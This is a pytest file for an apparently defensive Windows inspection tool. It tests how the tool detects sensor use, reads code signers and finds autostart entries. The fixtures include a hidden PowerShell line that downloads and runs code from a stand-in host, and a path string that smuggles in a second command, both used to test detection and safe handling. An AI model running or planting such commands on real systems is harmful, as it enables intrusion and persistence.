"""What is seen of a Windows computer: recorded registries, answers and tasks become the model."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardian.core.feature import Level
from guardian.processes.model import DeviceKind, Place, Process, Snapshot, Unknown
from guardian.processes.recording import decode
from guardian.processes.rules.assess import assess
from guardian.processes.sources import connections, windows
from guardian.processes.sources.autostart import windows as autostart
from guardian.processes.sources.machine import Machine
from tests.processes.builders import FIXTURES, shipped_rules
from tests.processes.recorded import Recorded

CAMERA = rf"HKCU\{windows.CONSENT}\webcam"
CONSENT = {
    rf"{CAMERA}\NonPackaged\C:#Tools#Peek.exe": {"LastUsedTimeStart": 133, "LastUsedTimeStop": 0},
    rf"{CAMERA}\NonPackaged\C:#Old#old.exe": {"LastUsedTimeStart": 133, "LastUsedTimeStop": 134},
    rf"{CAMERA}\Contoso.Meet_8wekyb": {"LastUsedTimeStart": 133, "LastUsedTimeStop": 0},
    rf"HKCU\{windows.CONSENT}\microphone\NonPackaged\C:#Tools#Peek.exe": {
        "LastUsedTimeStart": 133,
        "LastUsedTimeStop": 0,
    },
}
BOTH = (DeviceKind.CAMERA, DeviceKind.MICROPHONE)


def process(exe: Any, pid: int = 7) -> Process:
    return Process(pid=pid, ppid=1, name="x", exe=exe)


def complete(exe: Any, signers: Any = Unknown.ABSENT, **more: Any) -> Process:
    using = more.get("using", windows.in_use(Recorded(CONSENT)))
    return windows.complete(process(exe), signers, more.get("sockets", {}), using, lambda _: True)


def test_a_program_uses_the_camera_while_its_last_use_has_no_end() -> None:
    assert complete(r"C:\tools\peek.EXE").sensors == BOTH
    assert complete(r"C:\Old\old.exe").sensors == ()


def test_a_store_app_is_known_by_its_folder() -> None:
    folder = r"C:\Program Files\WindowsApps\Contoso.Meet_1.2.3.0_x64__8wekyb\Meet.exe"
    assert complete(folder).sensors == (DeviceKind.CAMERA,)


def test_what_cannot_be_seen_is_never_called_unused() -> None:
    assert complete(Unknown.DENIED).sensors is Unknown.DENIED
    assert complete(r"C:\a.exe", using=windows.in_use(Recorded({}))).sensors is Unknown.ABSENT
    assert complete(Unknown.DENIED).signer is Unknown.ABSENT
    assert complete(Unknown.DENIED, signers={}).signer is Unknown.DENIED
    assert complete(r"C:\a.exe", sockets=Unknown.DENIED).sockets is Unknown.DENIED


def test_signers_are_read_from_the_commands_answer() -> None:
    rows = [
        {"p": r"C:\A.exe", "s": 0, "n": 'CN="Contoso, Inc.", O="Contoso, Inc.", L=X, C=US'},
        {"p": r"C:\b.exe", "s": 2, "n": None},
        {"p": r"C:\c.exe", "s": 3, "n": "CN=Broken"},
        {"p": r"C:\d.exe", "s": 0, "n": "CN=Only Name"},
        "nonsense",
    ]
    assert windows.parse_signers(json.dumps(rows)) == {
        r"c:\a.exe": "Contoso, Inc.", r"c:\b.exe": None, r"c:\c.exe": None,
        r"c:\d.exe": "Only Name",
    }  # fmt: skip
    assert windows.parse_signers(json.dumps(rows[0])) == {r"c:\a.exe": "Contoso, Inc."}
    assert windows.parse_signers("") is Unknown.ABSENT


def test_paths_are_handed_over_as_text_and_never_as_a_part_of_the_command(tmp_path: Path) -> None:
    asked = []

    def ask(command: tuple[str, ...], text: str) -> str:
        asked.append((command, text))
        return "[]"

    evil = "C:\\a'; calc.exe; '.exe"
    windows.read_signers([evil], Machine(tmp_path, ask=ask))
    assert all("calc" not in word for word in asked[0][0])
    assert evil in asked[0][1]


def test_connections_are_grouped_by_process() -> None:
    class Address:
        def __init__(self, ip: str, port: int) -> None:
            self.ip, self.port = ip, port

    class Connection:
        def __init__(self, kind: int, status: str, remote: Any, pid: int | None) -> None:
            self.type, self.status, self.raddr, self.pid = kind, status, remote, pid
            self.laddr = Address("0.0.0.0", 80)

    found = connections.group(
        [
            Connection(1, "LISTEN", (), 5),
            Connection(1, "ESTABLISHED", Address("203.0.113.1", 443), 5),
            Connection(2, "NONE", (), 6),
            Connection(1, "TIME_WAIT", Address("203.0.113.1", 443), None),
        ]
    )
    assert [(one.listening, one.connected) for one in found[5]] == [(True, False), (False, True)]
    assert (found[6][0].protocol, found[6][0].listening) == ("udp", True)
    assert set(found) == {5, 6}


RUN = rf"HKCU\{autostart.RUN_KEYS[0]}"
REGISTRY: dict[str, dict[str, Any]] = {
    RUN: {
        "OneDrive": r'"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background',
        "tool": r"%APPDATA%\tool\tool.exe -q",
        "loader": "powershell -w hidden -c \"iwr https://x.example/a | iex\"",
        "off": r"C:\off.exe",
        "empty": "",
    },
    rf"HKCU\{autostart.APPROVED}": {"off": 3, "tool": 2},
    autostart.WINLOGON: {"Shell": "explorer.exe", "Userinit": r"C:\Windows\system32\userinit.exe,"},
    autostart.APP_INIT: {"AppInit_DLLs": r"C:\x\hook.dll", "LoadAppInit_DLLs": 1},
    rf"{autostart.OWN_CLASSES}\{{1}}\InprocServer32": {"": r"C:\x\borrowed.dll"},
    rf"{autostart.CLASSES}\{{1}}\InprocServer32": {"": r"C:\Windows\System32\real.dll"},
    rf"{autostart.OWN_CLASSES}\{{2}}\InprocServer32": {"": r"C:\own\own.dll"},
    rf"{autostart.IMAGE_OPTIONS}\taskmgr.exe": {"Debugger": r"C:\x\y.exe"},
    rf"{autostart.SERVICES}\Spooler": {
        "Start": 2, "Type": 16, "ImagePath": r"%SystemRoot%\System32\spoolsv.exe",
        "DisplayName": "@spoolsv.exe,-1",
    },
    rf"{autostart.SERVICES}\Shared": {
        "Start": 2, "Type": 32, "ImagePath": r"C:\Windows\system32\svchost.exe -k x",
    },
    rf"{autostart.SERVICES}\Shared\Parameters": {"ServiceDll": r"C:\svc\svc.dll"},
    rf"{autostart.SERVICES}\disk": {"Start": 0, "Type": 1, "ImagePath": r"System32\drivers\d.sys"},
    rf"{autostart.SERVICES}\byhand": {"Start": 3, "Type": 16, "ImagePath": r"C:\h.exe"},
}  # fmt: skip
TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Settings>
<Enabled>true</Enabled><Hidden>true</Hidden></Settings><Actions><Exec>
<Command>"C:\\Program Files\\u\\u.exe"</Command><Arguments>/silent</Arguments>
</Exec></Actions></Task>"""


def entries(tmp_path: Path, registry: dict[str, Any] = REGISTRY) -> dict[str, Any]:
    tasks = tmp_path / "Windows" / "System32" / "Tasks" / "Vendor"
    tasks.mkdir(parents=True, exist_ok=True)
    (tasks / "update").write_bytes(TASK.encode("utf-16"))
    (tasks / "broken").write_bytes(b"\xff\xfe<Task")
    (tasks / "trick").write_text('<!DOCTYPE x [<!ENTITY a "b">]><Task/>')
    home = tmp_path / "home"
    startup = home / autostart.STARTUP[0][2:]
    startup.mkdir(parents=True, exist_ok=True)
    (startup / "note.lnk").write_text("")
    (startup / "desktop.ini").write_text("")
    environment = {"AppData": r"C:\Users\ada\AppData\Roaming", "SystemRoot": r"C:\Windows"}
    rows = json.dumps([{"n": "SCM", "c": ""}, {"n": "evil", "c": r"C:\x\evil.exe"}, 5])
    machine = Machine(
        home, tmp_path, environment, registry=Recorded(registry), run=lambda _command: rows
    )
    found, unread = autostart.take_entries(machine, lambda: None, lambda _path: True)
    return {**{entry.name: entry for entry in found}, "unread": unread}


def test_everything_that_starts_by_itself_is_found_with_its_program(tmp_path: Path) -> None:
    found = entries(tmp_path)
    assert found["OneDrive"].target == r"C:\Program Files\Microsoft OneDrive\OneDrive.exe"
    assert found["tool"].target == r"C:\Users\ada\AppData\Roaming\tool\tool.exe"
    assert found["tool"].enabled is True
    assert found["off"].enabled is False
    assert "fetches-and-runs" in found["loader"].facts
    assert (found["AppInit_DLLs"].place, found["AppInit_DLLs"].enabled) == (Place.PRELOAD, True)
    assert found["{1}"].target == r"C:\x\borrowed.dll"
    assert (found["evil"].place, found["evil"].target) == (Place.HOOK, r"C:\x\evil.exe")
    assert not {"{2}", "SCM"} & set(found)
    assert found["taskmgr.exe"].target == r"C:\x\y.exe"
    assert found["Spooler"].target == r"C:\Windows\System32\spoolsv.exe"
    assert found["Shared"].target == r"C:\svc\svc.dll"
    assert (found["disk"].place, found["disk"].target) == (
        Place.KERNEL, r"C:\Windows\System32\drivers\d.sys",
    )  # fmt: skip
    assert found["note.lnk"].kind == "startup-folder"
    update = found["update"]
    assert (update.hidden, update.target) == (True, r"C:\Program Files\u\u.exe")
    assert not {"byhand", "empty", "desktop.ini", "Shell", "Userinit", "trick"} & set(found)


def test_a_log_in_that_was_replaced_is_an_entry(tmp_path: Path) -> None:
    registry = {**REGISTRY, autostart.WINLOGON: {"Shell": r"explorer.exe, C:\x\s.exe"}}
    assert entries(tmp_path, registry)["Shell"].kind == "winlogon"


def test_places_that_may_not_be_read_are_told(tmp_path: Path) -> None:
    class Closed(Recorded):
        def keys(self, _path: str, /) -> Any:
            return Unknown.DENIED

        def names(self, _path: str, /) -> Any:
            return Unknown.DENIED

    machine = Machine(tmp_path, tmp_path, registry=Closed({}), run=lambda _: Unknown.ABSENT)
    found, unread = autostart.take_entries(machine, lambda: None)
    assert found == ()
    closed = {RUN, autostart.SERVICES, autostart.IMAGE_OPTIONS, autostart.TASKS}
    assert closed | {autostart.OWN_CLASSES, "WMI __EventConsumer"} <= set(unread)


@pytest.mark.parametrize(
    ("command", "target"),
    [
        (r'"C:\a b\c.exe" /x', r"C:\a b\c.exe"),
        (r"C:\a b\c.exe /x", r"C:\a b\c.exe"),
        (r"C:\a\c", r"C:\a\c"),
        (r"\SystemRoot\System32\x.exe", r"C:\Windows\System32\x.exe"),
        (r"\??\C:\d\x.sys", r"C:\d\x.sys"),
        (r"rundll32.exe C:\x\y.dll,Start", r"C:\x\y.dll"),
        (r'wscript "C:\My Files\a.vbs"', r"C:\My Files\a.vbs"),
        (r"C:\Windows\System32\cmd.exe /c C:\x.bat", r"C:\x.bat"),
        (r"powershell -File C:\s.ps1", r"C:\s.ps1"),
        ("", None),
    ],
)
def test_the_program_behind_a_command_is_found(command: str, target: str | None) -> None:
    assert autostart.find_target(command, {"SystemRoot": r"C:\Windows"}) == target


@given(st.text(max_size=200))
def test_any_command_and_any_task_is_read_without_a_failure(text: str) -> None:
    target = autostart.find_target(text, {})
    assert target is None or isinstance(target, str)
    assert list(autostart.parse_task(text, "x", "x")) in (
        [],
        list(autostart.parse_task(text, "x", "x")),
    )
    list(windows.split_subject(text))


@pytest.mark.parametrize("name", ["windows-ordinary", "windows-watched"])
def test_a_recorded_computer_is_judged(name: str) -> None:
    recorded = (FIXTURES / "snapshots" / f"{name}.json").read_bytes()
    scan = assess(decode(recorded, Snapshot), shipped_rules())
    worth = {finding.program.name for finding in scan.findings if finding.level is not Level.FINE}
    expected = {"windows-ordinary": set(), "windows-watched": {"dwm.exe", "peek.exe", "upd.exe"}}
    assert worth == expected[name]
